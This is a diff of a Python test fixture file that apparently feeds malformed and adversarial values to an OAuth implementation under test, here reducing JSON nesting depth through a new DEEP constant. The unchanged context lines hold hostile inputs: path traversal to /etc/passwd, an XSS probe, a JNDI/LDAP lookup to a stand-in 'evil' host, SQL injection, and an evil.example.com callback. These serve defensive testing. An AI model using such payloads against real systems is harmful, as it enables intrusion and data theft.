@@ -7,6 +7,8 @@ import json
 from tests.oauth_model.parties import CALLBACK
 
 HUGE = "x" * 100_000
+#: Deeper than any reader goes.
+DEEP = "[" * 20_000
 #: Values that are then encoded as a form or a header field carries them.
 VALUES = (
     *(
@@ -24,7 +26,7 @@ VALUES = (
     ),
     *("\ud800", "\udfff\ud800", "\ufeff", "\u202e", "\x7f\x1b[2J", "\t", "a,b", "a;b", "*", "."),
     *("null", "true", "0", "-1", "1e999", "NaN", "9" * 5000, "[]", "{}", '""', "[null]", "[[]]"),
-    *("[" * 100_000, '{"a":' * 50_000, '[{"type":' * 1000, '{"a":1,"a":2}', '"\\ud800"'),
+    *(DEEP, '{"a":' * 5000, '[{"type":' * 1000, '{"a":1,"a":2}', '"\\ud800"'),
     *("../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://evil}", "' OR '1'='1"),
     *(
         "https://evil.example.com/cb",
@@ -96,7 +98,7 @@ BODIES = (
         "null",
         "\x00",
         "\ud800",
-        "[" * 100_000,
+        DEEP,
         '{"grant_type":',
         HUGE,
         "a" * 7,
@@ -201,7 +203,7 @@ CERTIFICATES = ("", "é", "AAAA", "\x00", HUGE)
 JSONS = (
     *("null", "true", "0", "-1", "1.5", "1e999", "NaN", "Infinity", "9" * 5000, '""', '"x"', "[]"),
     *("{}", "[[]]", "[null]", "[{}]", '{"a":1,"a":2}', '"\\ud800"', '"\\u0000"', '"\\""', '"é"'),
-    *("[" * 900 + "]" * 900, "[" * 100_000, '{"a":' * 300 + "1" + "}" * 300, f'"{HUGE}"', "}", ","),
+    *("[" * 900 + "]" * 900, DEEP, '{"a":' * 300 + "1" + "}" * 300, f'"{HUGE}"', "}", ","),
     *(
         '"email"',
         '["webdav"]',
